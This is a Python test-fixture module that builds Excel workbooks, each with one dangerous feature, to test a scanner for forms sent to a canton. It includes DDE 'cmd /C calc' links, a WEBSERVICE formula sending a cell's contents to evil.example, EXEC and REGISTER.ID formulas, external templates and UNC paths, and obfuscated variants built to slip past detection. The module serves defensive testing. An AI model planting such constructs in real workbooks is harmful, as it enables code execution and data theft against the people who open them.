"""Forms with something that the canton does not pass on: name → how it is made, what is found, what holds it back.

Built from our template, with every part declared as Excel declares it.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import NamedTuple

from eingaben.bauen import (
    BLATT,
    RELS,
    ausgefuellt,
    eigenes_blatt,
    ersatz,
    mit_blatt,
    mit_kommentar,
    mit_teil,
    mit_textfeld,
    teile,
    umbau,
    zelle,
)
from krs.mappen.lesen.harmlos import Art

OFFEN = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_MS = "http://schemas.microsoft.com/office/"
_X = "application/vnd.openxmlformats-officedocument."
BLATTRELS, WURZELRELS = "xl/worksheets/_rels/sheet1.xml.rels", "_rels/.rels"
ZEICHNUNG, ZEICHNUNGSRELS = "xl/drawings/drawing1.xml", "xl/drawings/_rels/drawing1.xml.rels"
EXTERN = ' TargetMode="External"'
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
_TYPEN = "[Content_Types].xml"


def mit_typ(daten: bytes, teil: str, typ: str) -> bytes:
    """Return the workbook with the type of a part declared."""
    eintrag = f'<Override PartName="/{teil}" ContentType="{typ}"/></Types>'
    return mit_teil(daten, _TYPEN, teile(daten)[_TYPEN].replace(b"</Types>", eintrag.encode()))


def mit_bezug(daten: bytes, rels: str, art: str, ziel: str, mehr: str = "", kennung: str = "rIdX") -> bytes:
    """Return the workbook with a relationship more; `art` is the whole address of its type."""
    kopf = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    neu = f'<Relationship Id="{kennung}" Type="{art}" Target="{ziel}"{mehr}/></Relationships>'
    return mit_teil(daten, rels, teile(daten).get(rels, kopf).replace(b"</Relationships>", neu.encode()))


def mit(daten: bytes, rels: str, art: str, teil: str, typ: str, inhalt: bytes) -> bytes:
    """Return the workbook with a part more, its type and the relationship that leads to it."""
    return mit_bezug(mit_typ(mit_teil(daten, teil, inhalt), teil, typ), rels, art, f"/{teil}")


def im_blatt(xml: str, vor: str = "<pageMargins") -> bytes:
    """Return the filled form with elements more in its sheet."""
    return umbau(ausgefuellt(), blatt=ersatz(vor, xml + vor))


def mit_link(ziel: str, daten: bytes = b"") -> bytes:
    """Return the form with a link on A1, as Excel writes it."""
    xml = (
        '<hyperlinks><hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
        ' ref="A1" r:id="rIdX"/></hyperlinks><pageMargins'
    )
    daten = umbau(daten or ausgefuellt(), blatt=ersatz("<pageMargins", xml))
    return mit_bezug(daten, BLATTRELS, f"{OFFEN}hyperlink", ziel, EXTERN)


def mit_formel(formel: str) -> bytes:
    """Return the form with a formula beside its fields."""
    return umbau(ausgefuellt(), blatt=zelle("D21", 't="str"', f"<f>{formel}</f><v>gezeigt</v>"))


def mit_name(name: str, formel: str, mehr: str = "") -> bytes:
    """Return the form with a defined name more."""
    xml = f'<definedName name="{name}"{mehr}>{formel}</definedName></definedNames>'
    return umbau(ausgefuellt(), mappe=ersatz("</definedNames>", xml))


def mit_zeichnung(xml: str = "") -> bytes:
    """Return the form with a drawing, declared, and elements more in it."""
    daten = mit_typ(mit_textfeld(ausgefuellt(), "Text"), ZEICHNUNG, f"{_X}drawing+xml")
    return mit_teil(daten, ZEICHNUNG, teile(daten)[ZEICHNUNG].replace(b"</xdr:wsDr>", f"{xml}</xdr:wsDr>".encode()))


def mit_bild(inhalt: bytes = PNG, typ: str = "image/png", endung: str = "png") -> bytes:
    """Return the form with a picture inside the file."""
    return mit(mit_zeichnung(), ZEICHNUNGSRELS, f"{OFFEN}image", f"xl/media/image1.{endung}", typ, inhalt)


def mit_vml(xml: str) -> bytes:
    """Return the form with a note and something more in the drawing of its boxes."""
    daten = mit_typ(mit_kommentar(ausgefuellt(), "C21", "Text"), "xl/comments1.xml", f"{_X}spreadsheetml.comments+xml")
    vml = (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
        f' xmlns:x="urn:schemas-microsoft-com:office:excel">{xml}</xml>'
    )
    return mit(daten, BLATTRELS, f"{OFFEN}vmlDrawing", "xl/drawings/vmlDrawing1.vml", f"{_X}vmlDrawing", vml.encode())


def mit_customxml(inhalt: bytes) -> bytes:
    """Return the form with a part of its own XML, as SharePoint and Power Query write it."""
    return mit(ausgefuellt(), RELS, f"{OFFEN}customXml", "customXml/item1.xml", "application/xml", inhalt)


def _ole(rels: str = BLATTRELS, art: str = f"{OFFEN}oleObject") -> bytes:
    return mit(ausgefuellt(), rels, art, "xl/embeddings/oleObject1.bin", f"{_X}oleObject", b"\xd0\xcf\x11\xe0")


def _in_alternative() -> bytes:
    xml = (
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice'
        ' Requires="v"><oleObjects><oleObject progId="Package" shapeId="1"/></oleObjects></mc:Choice>'
        "</mc:AlternateContent>"
    )
    return mit_zeichnung(xml)


class Gefahr(NamedTuple):
    """One form: how it is made, what is found on reading, and what keeps the workbook from going back."""

    bauen: Callable[[], bytes]
    gezeigt: frozenset[Art]
    haelt: frozenset[Art]


def _g(bauen: Callable[[], bytes], *arten: Art, haelt: tuple[Art, ...] | None = None) -> Gefahr:
    return Gefahr(bauen, frozenset(arten), frozenset(arten if haelt is None else haelt))


_OLE_ELEMENT = '<oleObjects><oleObject progId="Package" shapeId="1025"/></oleObjects>'
_DDE = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
_EXTERNER_TYP = f"{_X}spreadsheetml.externalLink+xml"
_BLATT_XML = eigenes_blatt(("a",))
_ADDIN = "application/vnd.ms-office.webextensiontaskpanes+xml"
GEFAHREN: dict[str, Gefahr] = {
    # sicher: what a stranger sent, one thing each
    "Link auf eine Webseite": _g(lambda: mit_link("http://evil.example/login"), Art.LINK, haelt=()),
    "DDE": _g(
        lambda: mit(ausgefuellt(), RELS, f"{OFFEN}externalLink", "xl/externalLinks/link1.xml", _EXTERNER_TYP, _DDE),
        Art.VERKNUEPFT,
    ),
    "HYPERLINK()": _g(lambda: mit_formel('HYPERLINK("http://evil.example","x")'), Art.FORMEL),
    "WEBSERVICE()": _g(lambda: mit_formel('_xlfn.WEBSERVICE("http://evil.example?"&amp;C9)'), Art.FORMEL),
    "OLE-Objekt": _g(_ole, Art.EINGEBETTET),
    "Add-in, das sich öffnet": _g(
        lambda: mit(
            ausgefuellt(), WURZELRELS, f"{_MS}2011/relationships/webextensiontaskpanes",
            "xl/webextensions/taskpanes.xml", _ADDIN, b"<taskpanes/>",
        ),
        Art.ADDIN,
    ),
    "Menüband": _g(
        lambda: mit(
            ausgefuellt(), WURZELRELS, f"{_MS}2007/relationships/ui/extensibility", "customUI/customUI14.xml",
            "application/xml", b'<customUI xmlns="x"/>',
        ),
        Art.MENUE,
    ),
    "Bild von aussen": _g(
        lambda: mit_bezug(mit_zeichnung(), ZEICHNUNGSRELS, f"{OFFEN}image", "https://evil.example/p.png", EXTERN),
        Art.VERKNUEPFT,
    ),
    "Auto_Open": _g(lambda: mit_name("_xlnm.Auto_Open", "Reporting!$A$1"), Art.NAME, haelt=()),
    "Power Query": _g(
        lambda: mit_customxml(b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA==</DataMashup>'),
        Art.ABFRAGE, haelt=(),
    ),
    "Makros": _g(
        lambda: mit(
            ausgefuellt(), RELS, f"{_MS}2006/relationships/vbaProject", "xl/daten.bin",
            "application/vnd.ms-office.vbaProject", b"x",
        ),
        Art.MAKROS,
    ),
    # programs and controls
    "Eingebettete Datei ohne Typ": _g(
        lambda: mit_bezug(
            mit_teil(ausgefuellt(), "xl/embeddings/Package.bin", b"MZ"), BLATTRELS, f"{OFFEN}package",
            "../embeddings/Package.bin",
        ),
        Art.EINGEBETTET,
    ),
    "ActiveX ohne Typ": _g(
        lambda: mit_bezug(
            mit_teil(ausgefuellt(), "xl/activeX/activeX1.xml", b"<a/>"), BLATTRELS, f"{OFFEN}control",
            "../activeX/activeX1.xml",
        ),
        Art.STEUER,
    ),
    "Formularsteuerelement": _g(
        lambda: mit(
            ausgefuellt(), BLATTRELS, f"{OFFEN}ctrlProp", "xl/ctrlProps/ctrlProp1.xml",
            "application/vnd.ms-excel.controlproperties+xml", b'<formControlPr xmlns="x" objectType="Button"/>',
        ),
        Art.STEUER,
    ),
    "OLE unter langem Vorsatz": _g(
        lambda: im_blatt(f'<ä{"x" * 50}:oleObject xmlns:ä{"x" * 50}="x"/>', "</worksheet>"), Art.EINGEBETTET
    ),
    "WEBSERVICE(), zerteilt": _g(lambda: mit_formel('WEB<?x?>SERVICE("http://evil.example")'), Art.FORMEL),
    "WEBSERVICE() in einer Formel": _g(lambda: mit_formel('1<f>WEBSERVICE("http://evil.example")</f>'), Art.FORMEL),
    "Name, der läuft, mit Leerzeichen": _g(lambda: mit_name("x", "1", " function = '1'"), Art.NAME, haelt=()),
    "OLE im Blatt": _g(lambda: im_blatt(_OLE_ELEMENT, "</worksheet>"), Art.EINGEBETTET),
    "Steuerelemente im Blatt": _g(
        lambda: im_blatt('<controls><control shapeId="1"/></controls>', "</worksheet>"), Art.STEUER
    ),
    "Veröffentlichung": _g(
        lambda: im_blatt(
            '<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet"'
            ' destinationFile="\\\\evil.example\\x.htm" autoRepublish="1"/></webPublishItems>', "</worksheet>",
        ),
        Art.VEROEFFENTLICHT,
    ),
    "OLE in einer Alternative": _g(_in_alternative, Art.EINGEBETTET),
    "Makro auf einer Form": _g(lambda: mit_zeichnung('<xdr:sp macro="[0]!Start"/>'), Art.MAKROS),
    "OLE in den Rahmen": _g(
        lambda: mit_vml('<v:shape><o:OLEObject Type="Embed" ProgID="Package"/></v:shape>'), Art.EINGEBETTET
    ),
    "Makro in den Rahmen": _g(
        lambda: mit_vml(
            '<v:shape><x:ClientData ObjectType="Note"><x:FmlaMacro>A</x:FmlaMacro></x:ClientData></v:shape>'
        ),
        Art.MAKROS,
    ),
    "Schaltfläche in den Rahmen": _g(
        lambda: mit_vml('<v:shape><x:ClientData ObjectType="Button"/></v:shape>'), Art.STEUER
    ),
    "Bild von aussen in den Rahmen": _g(
        lambda: mit_vml('<v:shape><v:imagedata src="\\\\evil.example\\a.png"/></v:shape>'), Art.VERKNUEPFT
    ),
    # the same under other names and types
    "OLE unter dem Namen eines Bildes": _g(
        lambda: mit(ausgefuellt(), BLATTRELS, f"{OFFEN}oleObject", "xl/media/image1.png", "image/png", PNG),
        Art.EINGEBETTET,
    ),
    "OLE mit grossem Typ": _g(lambda: _ole(art=f"{OFFEN}OLEOBJECT"), Art.EINGEBETTET),
    "OLE streng": _g(
        lambda: _ole(art="http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject"), Art.EINGEBETTET
    ),
    "OLE hinter einem Bild": _g(lambda: _ole(art=f"{OFFEN}image"), Art.EINGEBETTET, haelt=(Art.FREMD,)),
    "Zwei Beziehungen auf einen Teil": _g(
        lambda: mit_bezug(mit_bild(), ZEICHNUNGSRELS, f"{OFFEN}oleObject", "/xl/media/image1.png", "", "zwei"),
        Art.EINGEBETTET,
    ),
    "Datei im Internet als Blatt": _g(
        lambda: mit_bezug(ausgefuellt(), RELS, f"{OFFEN}worksheet", "http://evil.example/x.xml", EXTERN), Art.VERKNUEPFT
    ),
    "Adresse ohne TargetMode": _g(
        lambda: mit_bezug(mit_zeichnung(), ZEICHNUNGSRELS, f"{OFFEN}image", "file:///c:/x.png"), Art.VERKNUEPFT
    ),
    "Freigabe ohne TargetMode": _g(
        lambda: mit_bezug(mit_zeichnung(), ZEICHNUNGSRELS, f"{OFFEN}image", "\\\\evil.example\\x.png"), Art.VERKNUEPFT
    ),
    "TargetMode anders geschrieben": _g(
        lambda: mit_bezug(mit_zeichnung(), ZEICHNUNGSRELS, f"{OFFEN}image", "x.png", ' TargetMode="EXTERNAL"'),
        Art.VERKNUEPFT,
    ),
    "Vorlage von aussen": _g(
        lambda: mit_bezug(ausgefuellt(), RELS, f"{OFFEN}attachedTemplate", "http://evil.example/x.xltm", EXTERN),
        Art.VERKNUEPFT,
    ),
    "Ziel mit Prozentzeichen": _g(
        lambda: mit_bezug(mit_bild(), ZEICHNUNGSRELS, f"{OFFEN}image", "../media/%69mage1.png", "", "zwei"),
        Art.FREMD,
    ),
    "Unbekannte Beziehung": _g(
        lambda: mit(ausgefuellt(), RELS, "urn:x/neu", "xl/neu.xml", "application/xml", b"<a/>"), Art.FREMD
    ),
    "Zwei Typen für einen Teil": _g(
        lambda: mit_typ(ausgefuellt(), BLATT.upper(), "application/vnd.ms-excel.macrosheet+xml"), Art.MAKROS,
        haelt=(Art.FREMD,),
    ),
    "Typ mit Prozentzeichen": _g(
        lambda: mit_typ(ausgefuellt(), "xl/%77orkbook.xml", "application/xml"), haelt=(Art.FREMD,)
    ),
    "Arbeitsmappe für Makros": _g(
        lambda: umbau(
            mit_teil(
                ausgefuellt(), _TYPEN,
                teile(ausgefuellt())[_TYPEN].replace(
                    f"{_X}spreadsheetml.sheet.main+xml".encode(),
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ),
            )
        ),
        haelt=(Art.FREMD,),
    ),
    "Bild, das keines ist": _g(lambda: mit_bild(b"\x01\0\0\0 EMF"), haelt=(Art.FREMD,)),
    "Bild mit Skripten": _g(lambda: mit_bild(b"<svg/>", "image/svg+xml", "svg"), haelt=(Art.FREMD,)),
    "Basis": _g(lambda: umbau(ausgefuellt(), blatt=ersatz("<sheetData", '<sheetData xml:base="http://evil.example/"')),
                Art.VERKNUEPFT),
    "Neue Makrofunktion im Namen": _g(lambda: mit_name("Start", "EXEC(&quot;calc&quot;)"), Art.NAME, haelt=()),
    "Name auf eine fremde Mappe": _g(lambda: mit_name("Alt", "[1]Liste!$A$1"), Art.NAME, haelt=()),
    "Name als Makro": _g(lambda: mit_name("Start", "Reporting!$A$1", ' function="1" xlm="1"'), Art.NAME, haelt=()),
    # formulas
    "Formel mit Zeichenverweis": _g(lambda: mit_formel("HYPER&#76;INK(1,2)"), Art.FORMEL),
    "Formel in Stücken": _g(lambda: mit_formel("HYPER<!-- x -->LINK(1,2)"), Art.FORMEL),
    "Formel klein geschrieben": _g(lambda: mit_formel("1+hyperlink (1,2)"), Art.FORMEL),
    "Formel hinter Anführungszeichen": _g(lambda: mit_formel("T[a\"b]&amp;HYPERLINK(\"x\")"), Art.FORMEL),
    "Funktion als Wert": _g(lambda: mit_formel("_xlfn.MAP(A1,_xleta.HYPERLINK)"), Art.FORMEL),
    "RTD": _g(lambda: mit_formel('RTD("x",,"y")'), Art.FORMEL),
    "REGISTER.ID": _g(lambda: mit_formel('REGISTER.ID("kernel32","x")'), Art.FORMEL),
    "DDE in der Zelle": _g(lambda: mit_formel("cmd|'/C calc'!A0"), Art.VERKNUEPFT),
    "Bezug auf eine Freigabe": _g(lambda: mit_formel("'\\\\evil.example\\a\\[b.xlsx]c'!A1"), Art.VERKNUEPFT),
    "Bezug auf eine fremde Mappe": _g(lambda: mit_formel("[1]Liste!A1"), Art.VERKNUEPFT),
    "Eingaberegel mit fremder Mappe": _g(
        lambda: umbau(ausgefuellt(), blatt=ersatz(
            "</dataValidations>",
            '<dataValidation sqref="D21"><formula1>[1]Liste!A1</formula1></dataValidation></dataValidations>',
        )),
        Art.VERKNUEPFT,
    ),
    "Farbe mit WEBSERVICE": _g(
        lambda: im_blatt(
            '<conditionalFormatting sqref="D21"><cfRule type="expression" priority="9">'
            "<formula>WEBSERVICE(C9)&gt;0</formula></cfRule></conditionalFormatting>", "<dataValidations",
        ),
        Art.FORMEL,
    ),
    "Link ohne Beziehung": _g(
        lambda: im_blatt('<hyperlinks><hyperlink ref="A1" location="\'[evil.xlsx]A\'!A1"/></hyperlinks>'),
        Art.LINK, haelt=(),
    ),
    "Link in einer Zeichnung": _g(
        lambda: mit_bezug(
            mit_zeichnung(
                '<xdr:pic><xdr:cNvPr id="1" name="a"><a:hlinkClick'
                ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdX"/>'
                "</xdr:cNvPr></xdr:pic>"
            ),
            ZEICHNUNGSRELS, f"{OFFEN}hyperlink", "http://evil.example", EXTERN,
        ),
        Art.LINK, haelt=(),
    ),
    # no danger, and no Befund
    "E-Mail-Adresse als Link": _g(lambda: mit_link("mailto:anna@example.ch")),
    "Bild in der Datei": _g(mit_bild),
    "SharePoint": _g(lambda: mit_customxml(b"<p:properties xmlns:p='x'/>")),
    "Eigenes Blatt mit Formel": _g(lambda: mit_blatt(mit_formel("SUM('Mein Blatt'!A1)"), "Mein Blatt", _BLATT_XML)),
    "Notiz": _g(lambda: mit_vml('<v:shape><x:ClientData ObjectType="Note"/></v:shape>')),
    "Druckereinstellungen": _g(
        lambda: mit(
            umbau(ausgefuellt(), blatt=ersatz(
                "<pageSetup ",
                '<pageSetup xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdX" ',
            )),
            BLATTRELS, f"{OFFEN}printerSettings", "xl/printerSettings/printerSettings1.bin",
            f"{_X}spreadsheetml.printerSettings", b"x",
        )
    ),
    "Reihenfolge der Berechnung": _g(
        lambda: mit(
            ausgefuellt(), RELS, f"{OFFEN}calcChain", "xl/calcChain.xml", f"{_X}spreadsheetml.calcChain+xml",
            b"<calcChain/>",
        )
    ),
}  # fmt: skip
